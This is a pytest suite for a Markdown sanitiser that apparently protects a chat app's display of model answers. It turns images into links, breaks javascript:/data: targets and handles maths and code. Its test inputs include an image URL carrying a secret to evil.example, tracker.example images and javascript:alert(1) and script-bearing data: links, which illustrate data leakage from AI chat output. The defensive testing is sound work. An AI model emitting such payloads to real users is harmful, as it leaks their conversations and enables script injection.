"""safe_markdown: images become links, dangerous targets go, maths delimiters convert, code stays."""

from __future__ import annotations

import re

import pytest

from lib.ui.markdown_safety import enforce, has_definitions, keep_line_breaks, safe_markdown

Z = "\u200b"  # the zero-width space that keeps edited text from gluing into new syntax

IMAGES = [
    ("plain", "![alt](http://h/i.png)", "[🖼 alt](http://h/i.png)"),
    (
        "leaks the chat in its query",
        "![x](https://evil.example/?q=my%20secret)",
        "[🖼 x](https://evil.example/?q=my%20secret)",
    ),
    ("double-quoted title", '![a](http://h/i "T")', '[🖼 a](http://h/i "T")'),
    ("single-quoted title", "![a](http://h/i 'T')", "[🖼 a](http://h/i 'T')"),
    ("parenthesised title", "![a](http://h/i (T))", "[🖼 a](http://h/i (T))"),
    ("angle-bracket URL with a space", "![a](<http://h/a b.png>)", "[🖼 a](<http://h/a b.png>)"),
    ("balanced parentheses in the URL", "![a](http://h/x_(1).png)", "[🖼 a](http://h/x_(1).png)"),
    ("URL on the next line", "![a](\nhttp://h/i)", "[🖼 a](\nhttp://h/i)"),
    ("empty alt", "![](http://h/i)", "[🖼 ](http://h/i)"),
    ("relative URL", "![a](img.png)", "[🖼 a](img.png)"),
    ("emphasis in the alt", "![*a*](u)", "[🖼 *a*](u)"),
    ("in a sentence", "See ![a](u) here.", "See [🖼 a](u) here."),
    ("two in a row", "![a](u)![b](v)", "[🖼 a](u)[🖼 b](v)"),
    ("after an exclamation mark", "Wow!![a](u)", f"Wow!{Z}[🖼 a](u)"),
    ("escaped bang is a link already", r"\![a](u)", r"\![a](u)"),
    ("escaped backslash before an image", r"\\![a](u)", r"\\[🖼 a](u)"),
    ("in a list item", "- ![a](u)", "- [🖼 a](u)"),
    ("in a blockquote", "> ![a](u)", "> [🖼 a](u)"),
    ("in a heading", "# ![a](u)", "# [🖼 a](u)"),
    ("in a table cell", "| a |\n|---|\n| ![i](u) |", "| a |\n|---|\n| [🖼 i](u) |"),
    ("half-streamed image", "![a](http://h/?q=secr", r"\![a](http://h/?q=secr"),
    ("brackets without a target", "![a] and ![b][c]", r"\![a] and \![b][c]"),
]

REFERENCE_IMAGES = [
    ("full reference", "![a][r]\n\n[r]: http://h/i", "[🖼 a][r]\n\n[r]: http://h/i"),
    ("collapsed reference", "![r][]\n\n[r]: http://h/i", "[🖼 r][r]\n\n[r]: http://h/i"),
    ("shortcut reference", "![r]\n\n[r]: http://h/i", "[🖼 r][r]\n\n[r]: http://h/i"),
    ("label case and spacing", "![A  B][]\n\n[a b]: http://h/i", "[🖼 A  B][A  B]\n\n[a b]: http://h/i"),
    ("definition first", "[r]: http://h/i\n\n![a][r]", "[r]: http://h/i\n\n[🖼 a][r]"),
    (
        "definition with angle brackets and title",
        '![a][r]\n\n[r]: <http://h/a b> "T"',
        '[🖼 a][r]\n\n[r]: <http://h/a b> "T"',
    ),
    ("definition in a blockquote", "![a][r]\n\n> [r]: http://h/i", "[🖼 a][r]\n\n> [r]: http://h/i"),
    ("undefined label stays text", "![a][nope]", r"\![a][nope]"),
    (
        "data: definition keeps the alt",
        "![a][r]\n\n[r]: data:image/png;base64,AAAA",
        f"a\n\n[r]: {Z}data:image/png;base64,AAAA",
    ),
]

NESTED = [
    ("badge: image inside a link", "[![Build](https://ci/b.svg)](https://ci/p)", "[🖼 Build](https://ci/p)"),
    ("two badges", "[![a](x)](p) [![b](y)](q)", "[🖼 a](p) [🖼 b](q)"),
    ("data: image inside a link", "[![a](data:x)](http://p)", "[🖼 a](http://p)"),
    ("image inside a javascript: link", "[![a](u)](javascript:x)", "🖼 a"),
    ("link inside an image's alt", "![see [docs](http://d)](http://i)", "[🖼 see docs](http://i)"),
    ("image inside an image's alt", "![a ![b](v)](u)", "[🖼 a 🖼 b](u)"),
    ("reference image inside a link", "[![a][r]](http://p)\n\n[r]: http://i", "[🖼 a](http://p)\n\n[r]: http://i"),
    ("code span inside link text", "[`]`](http://h)", "[`]`](http://h)"),
]

DATA_IMAGES_AND_LINKS = [
    ("data: image keeps its alt", "![diagram](data:image/png;base64,iVBO)", "diagram"),
    ("javascript: image keeps its alt", "![a](javascript:x)", "a"),
    ("javascript: link", "[a](javascript:alert(1))", "a"),
    ("vbscript: link", "[a](vbscript:msgbox)", "a"),
    ("data: link", "[a](data:text/html,<script>x</script>)", "a"),
    ("scheme in capitals", "[a](JavaScript:x)", "a"),
    ("character reference in the scheme", "[a](&#106;avascript:x)", "a"),
    ("escaped colon", r"[a](javascript\:x)", "a"),
    ("tab inside the scheme", "[a](<java\tscript:x>)", "a"),
    ("leading space inside angle brackets", "[a](< javascript:x>)", "a"),
    ("text around keeps flowing", "Click [here](javascript:x) now", "Click here now"),
    ("text that would become a heading", "[# no](javascript:x)", f"{Z}# no"),
    ("reference to a javascript: definition", "[a][r]\n\n[r]: javascript:x", f"a\n\n[r]: {Z}javascript:x"),
    ("javascript: autolink", "<javascript:alert(1)>", f"<{Z}javascript:alert(1)>"),
    ("safe link untouched", "[a](https://h/p?q=1#f)", "[a](https://h/p?q=1#f)"),
    ("safe autolink untouched", "<https://h/x>", "<https://h/x>"),
    ("mailto untouched", "[mail](mailto:a@b.c)", "[mail](mailto:a@b.c)"),
    ("word 'data:' in prose untouched", "data: javascript: plain words", "data: javascript: plain words"),
]

CODE_IS_UNTOUCHED = [
    (
        "backtick fence",
        "```\n![a](u)\n[b](javascript:x)\n\\(x\\)\n```",
        "```\n![a](u)\n[b](javascript:x)\n\\(x\\)\n```",
    ),
    ("tilde fence", "~~~\n![a](u)\n~~~", "~~~\n![a](u)\n~~~"),
    ("info string", "```python title=x\n![a](u)\n```", "```python title=x\n![a](u)\n```"),
    (
        "longer fence holds a shorter one",
        "````\n```\n![a](u)\n```\n````\n![b](v)",
        "````\n```\n![a](u)\n```\n````\n[🖼 b](v)",
    ),
    ("tilde fence holds backticks", "~~~~~\n```\n![a](u)\n~~~~~", "~~~~~\n```\n![a](u)\n~~~~~"),
    ("shorter closing fence does not close", "````\n![a](u)\n```\n![b](v)\n````", "````\n![a](u)\n```\n![b](v)\n````"),
    ("unterminated fence runs to the end", "text\n```\n![a](u)", "text\n```\n![a](u)"),
    (
        "blank lines inside a fence",
        "```\n![a](u)\n\n\n![b](v)\n```\n![c](w)",
        "```\n![a](u)\n\n\n![b](v)\n```\n[🖼 c](w)",
    ),
    (
        "fence inside a list item",
        "1. Run:\n\n   ```bash\n   echo ![a](u)\n   ```\n\n![b](v)",
        "1. Run:\n\n   ```bash\n   echo ![a](u)\n   ```\n\n[🖼 b](v)",
    ),
    ("backtick in the info string: no fence", "``` a`b\n![a](u)", "``` a`b\n[🖼 a](u)"),
    ("display maths block", "$$\n![a](u) \\(x\\)\n$$", "$$\n\\![a](u) \\(x\\)\n$$"),  # maths is not confirmed code
    ("code span", "`![a](u)`", "`![a](u)`"),
    ("double-backtick span holding a backtick", "``a ` ![b](u)``", "``a ` ![b](u)``"),
    ("code span across a line break", "`a\n![b](u)`", "`a\n![b](u)`"),
    ("code span with maths delimiters", "`re.compile(r'\\(')` and `\\[x\\]`", "`re.compile(r'\\(')` and `\\[x\\]`"),
    ("unmatched backtick is text", "`![a](u)", "`[🖼 a](u)"),
    ("escaped backtick opens nothing", "\\`![a](u)`", "\\`[🖼 a](u)`"),
    ("inline maths", "$![a](u)$", "$\\![a](u)$"),
    ("code span in a table cell", "| `![a](u)` |\n|---|", "| `\\![a](u)` |\n|---|"),  # tables are not confirmed
]

MATHS = [
    ("inline", "\\(x^2\\)", "$x^2$"),
    ("inline with padding", "a \\( x + y \\) b", "a $x + y$ b"),
    ("inline across lines", "\\(a +\nb\\)", "$a + b$"),
    ("display alone on its line", "\\[ E = mc^2 \\]", "$$\nE = mc^2\n$$"),
    ("display inside a sentence", "so \\[x\\] holds", "so $$x$$ holds"),
    ("display over lines", "\\[\na = b\n\\]", "$$\na = b\n$$"),
    ("display over lines, text on the delimiter lines", "\\[ a = b +\n  c \\]", "$$\na = b +\n  c\n$$"),
    ("display cut by a list item is left alone", "\\[ a = b\n+ c \\]", "\\[ a = b\n+ c \\]"),
    ("display inside a paragraph", "We get\n\\[\nx\n\\]\nas wanted.", "We get\n$$\nx\n$$\nas wanted."),
    ("display in a list item", "- x\n  \\[\n  y\n  \\]", "- x\n  $$\n  y\n  $$"),
    ("two inline in a row", "\\(a\\)\\(b\\)", f"$a${Z}$b$"),
    ("inside link text", "[\\(x\\)](http://h)", "[$x$](http://h)"),
    ("escaped backslash is not maths", "\\\\(x\\\\)", "\\\\(x\\\\)"),
    ("dollars inside are left alone", "\\(\\$5\\)", "\\(\\$5\\)"),
    ("after a lone dollar", "costs $5 and \\(x\\)", "costs $5 and \\(x\\)"),
    ("empty", "\\(\\)", "\\(\\)"),
    ("unclosed", "\\(x", "\\(x"),
    ("already in dollars", "$x$ and $$y$$", "$x$ and $$y$$"),
]

# Where Streamlit's parser could read the text two ways, every image opener is escaped and every
# dangerous target broken (code included) instead of trusting a guess.
GUARDED = [
    ("fence after a list marker", "- ```\n  x\n  ```\n![a](u)", "- ```\n  x\n  ```\n\\![a](u)"),
    ("fence in a blockquote", "> ```\n> ![a](u)\n![b](v)", "> ```\n> \\![a](u)\n\\![b](v)"),
    # st.markdown strips the text, so this fence is one for the frontend: its content is code.
    ("fence indented four spaces, first", "    ```\n![a](u)", "```\n![a](u)"),
    ("fence indented four spaces", "a\n    ```\n![a](u)", "a\n    ```\n\\![a](u)"),
    ("fence inside an HTML comment", "<!--\n```\n-->\n![a](u)\n```", "<!--\n```\n-->\n\\![a](u)\n```"),
    ("fence right after an HTML line", "<div>\n```\n![a](u)", "<div>\n```\n\\![a](u)"),
    (
        "closing fence left of a list item's fence",
        "1. a\n\n   ```\n   x\n```\n![b](v)",
        "1. a\n\n   ```\n   x\n```\n\\![b](v)",
    ),
    ("a javascript: target after a doubt", "- ```\n[a](javascript:x)", f"- ```\n[a]({Z}javascript:x)"),
    ("autolink literal may swallow a backtick", "http://h/`x ![a](u) `", "http://h/`x \\![a](u) `"),
    ("directive attributes may swallow a backtick", ':x{a="`"} ![a](u) `', ':x{a="`"} \\![a](u) `'),
    ("raw HTML may hide a backtick", "<a title='`'>![a](u)`", "<a title='`'>\\![a](u)`"),
    ("autolink holding a backtick", "<http://h/`>![a](u)`", "<http://h/`>\\![a](u)`"),
    ("table cells split a code span", "| `a | ![i](u) | b` |\n|---|---|---|", "| `a | \\![i](u) | b` |\n|---|---|---|"),
    ("code span cannot cross list items", "- a `x\n- ![i](u) `", "- a `x\n- \\![i](u) `"),
    ("code span cannot leave a heading", "# a `x\n![i](u) `", "# a `x\n\\![i](u) `"),
    ("link destination our grammar rejects", "[a](b c) ![i](u)", "[a](b c) \\![i](u)"),
    (
        "link kept inactive by a link inside it",
        "[x [a](javascript:y)](http://z)",
        f"[x [a]({Z}javascript:y)](http://z)",
    ),
]

OTHER = [
    (
        "plain text untouched",
        "Just **text**, _emphasis_ and [a link](http://h).",
        "Just **text**, _emphasis_ and [a link](http://h).",
    ),
    ("CRLF line endings", "a\r\n![i](u)\r\n", "a\n[🖼 i](u)\n"),
    ("empty", "", ""),
]

CASES = IMAGES + REFERENCE_IMAGES + NESTED + DATA_IMAGES_AND_LINKS + CODE_IS_UNTOUCHED + MATHS + GUARDED + OTHER


@pytest.mark.parametrize(("source", "expected"), [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_safe_markdown(source, expected):
    assert without_kept_breaks(safe_markdown(source)) == expected  # kept line breaks: tested on their own


@pytest.mark.parametrize("source", [case[1] for case in CASES], ids=[case[0] for case in CASES])
def test_safe_markdown_is_idempotent(source):
    once = safe_markdown(source)
    assert safe_markdown(once) == once


PATHOLOGICAL = {
    "open brackets": "[" * 100_000,
    "nested images": "![" * 25_000 + "x" + "](u)" * 25_000,
    "backtick ladder": "".join("`" * n + "x" for n in range(1, 440)),
    "alternating backticks": "` " * 50_000,
    "dollars": "$a" * 50_000,
    "angle brackets": "<a" * 50_000,
    "one tag, many attributes": "<a " + "b " * 50_000,
    "comment openers": "<!--" * 25_000,
    "backslashes": "\\" * 100_000,
    "maths openers": "\\(" * 50_000,
    "deep parentheses": "[a](" + "(" * 100_000,
    "unclosed title": '[a](u "' + "x" * 100_000,
    "links": "[a](b)" * 16_000,
    "fences": "```\n" * 25_000,
    "list fences": "- ```\n" * 20_000,
    "table pipes": "|" * 100_000 + "\n|---|\n",
    "spaces then a fence": " " * 100_000 + "```",
    "paragraphs with code spans": "a `x`\n\n" * 15_000,
    "quoted code spans": "> `x` ![a](u)\n" * 7_000,
    "one long label": "[" + "a" * 100_000 + "]: http://x\n\n![" + "a" * 2_000 + "]",
}


@pytest.mark.parametrize("source", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_pathological_input_is_handled(source):
    """100 KB of adversarial input goes through; the regexes have no catastrophic backtracking."""
    assert isinstance(safe_markdown(source), str)


@pytest.mark.parametrize(
    ("text", "defines"),
    [
        ("See [the docs][d].\n\n[d]: https://example.com", True),
        ("A footnote[^1].\n\n[^1]: The note.", True),
        ("> [q]: https://example.com/in-a-quote", True),
        ("No definitions, only [a link](https://example.com).", False),
        ("[x]:", False),  # a label with nothing after the colon defines nothing
        ("Text with [brackets]: and more", False),  # not at the start of a line
    ],
)
def test_definitions_are_found_where_they_reach_across_blocks(text, defines):
    assert has_definitions(text) is defines


# Issue 17: the frontend read images where the old scanner predicted maths or code. Each family
# below fetched in Chromium before (tests/browser/test_markdown_fuzz.py finds them again).
U = "http://tracker.example"
FRONTEND_READS_AN_IMAGE = {
    "image between two single dollars": f"$ ![a]({U}/1.png) $",
    "image between dollar amounts": f"cost $5 ![a]({U}/2.png) and $6",
    "line starting with $$ holding an image": f"$$ ![a]({U}/3.png) $$",
    "$$ block, image on the next line": f"$$\n![a]({U}/4.png)\n$$",
    "$$ with meta, image on the next line": f"$$ x\n![a]({U}/5.png)",
    "$$ line with a backtick": f"$$ `\n![a]({U}/6.png) `",
    "$$ block closed inside a fence": f"text\n$$\n```\n$$\n![a]({U}/7.png)\n```",
    "directive label holding a backtick": f":x[`] ![a]({U}/8.png) `",
    "definition label with a backtick, then a code span": f"[a`b]: {U}/9.png\n\n[y][a`b] ![x][a`b] `",
    "definition label with a dollar": f"[$q$]: {U}/10.png\n\ntext $\n![x][$q$] $",
    "definition label with a backtick, no blank line": f"[a`b]: {U}/11.png\n![x][a`b]",
}
UNESCAPED_IMAGE = re.compile(r"(?<!\\)(?:\\\\)*!\[")


@pytest.mark.parametrize("source", FRONTEND_READS_AN_IMAGE.values(), ids=FRONTEND_READS_AN_IMAGE.keys())
def test_no_image_opener_is_left_outside_confirmed_code(source):
    assert UNESCAPED_IMAGE.search(safe_markdown(source)) is None


@pytest.mark.parametrize("source", FRONTEND_READS_AN_IMAGE.values(), ids=FRONTEND_READS_AN_IMAGE.keys())
def test_no_streamed_prefix_leaves_an_image_opener(source):
    """While an answer streams, every prefix is drawn: none may hold an image either."""
    for end in range(1, len(source) + 1):
        assert UNESCAPED_IMAGE.search(safe_markdown(source[:end])) is None, source[:end]


CONFIRMED_OR_NOT = [
    ("a fence is code", "```\n![a](u)\n```", "```\n![a](u)\n```"),
    ("a fence before a $$ line is code", "```\n![a](u)\n```\n$$\nx\n$$", "```\n![a](u)\n```\n$$\nx\n$$"),
    ("a fence after a $$ line is not", "$$\nx\n$$\n```\n![a](u)\n```", "$$\nx\n$$\n```\n\\![a](u)\n```"),
    ("a fence after a table is not", "| a |\n|---|\n\n```\n![a](u)\n```", "| a |\n|---|\n\n```\n\\![a](u)\n```"),
    ("a fence after a directive is not", "::x\n\n```\n![a](u)\n```", "::x\n\n```\n\\![a](u)\n```"),
    ("a pipe inside a fence changes nothing", "```\na | b\n```\n`![a](u)`", "```\na | b\n```\n`![a](u)`"),
    ("a code span in a quote is code", "> see `![a](u)`", "> see `![a](u)`"),
    ("a code span in a heading is code", "## `![a](u)` ##", "## `![a](u)` ##"),
    ("a code span beside a dollar is not", "$5 `![a](u)`", "$5 `\\![a](u)`"),
    ("a code span beside a URL is not", "http://h `![a](u)`", "http://h `\\![a](u)`"),
    ("a code span beside a reference is not", "[a][b] `![a](u)`", "[a][b] `\\![a](u)`"),
    ("dedented as st.markdown does", "    ![a](u)\n    text", "[🖼 a](u)\ntext"),
]


@pytest.mark.parametrize(
    ("source", "expected"), [case[1:] for case in CONFIRMED_OR_NOT], ids=[c[0] for c in CONFIRMED_OR_NOT]
)
def test_only_code_the_parse_confirms_keeps_its_image_openers(source, expected):
    assert without_kept_breaks(safe_markdown(source)) == expected


ENFORCED = [
    ("outside code", "![a](u) `![b](v)`", "\\![a](u) `![b](v)`"),
    ("an indented code block is not confirmed", "a\n\n    ![a](u)", "a\n\n    \\![a](u)"),
    ("HTML is not confirmed", "<div>\n![a](u)\n</div>", "<div>\n\\![a](u)\n</div>"),
    ("a dangerous target is broken", "[c](javascript:x)", f"[c]({Z}javascript:x)"),
    (
        "a scheme may be a directive: no code confirmed",
        "[c](javascript:x) `![b](v)`",
        f"[c]({Z}javascript:x) `\\![b](v)`",
    ),
]


@pytest.mark.parametrize(("source", "expected"), [case[1:] for case in ENFORCED], ids=[c[0] for c in ENFORCED])
def test_enforce_escapes_everything_outside_confirmed_code(source, expected):
    """The safety step alone, on Markdown the looks step did not touch."""
    assert enforce(source) == expected


def without_kept_breaks(markdown: str) -> str:
    return markdown.replace("  \n", "\n")


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("Roses are red\nViolets are blue\n\nSugar is sweet", "Roses are red  \nViolets are blue\n\nSugar is sweet"),
        ("```\na\nb\n```\nx\ny", "```\na\nb\n```\nx  \ny"),  # code keeps its own lines
        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),  # table rows left alone
        ("$$\nx = 1\ny = 2\n$$", "$$\nx = 1\ny = 2\n$$"),  # displayed maths left alone
        ("a `code\nspan` b\nc", "a `code\nspan` b  \nc"),  # a code span going on to the next line
        ("line\\\nnext", "line\\\nnext"),  # already a hard break
        ("last line of a run\n", "last line of a run\n"),
    ],
)
def test_a_models_line_breaks_are_kept_outside_code(source, expected):
    assert keep_line_breaks(source) == expected
    assert safe_markdown(source).rstrip("\n") == expected.rstrip("\n")
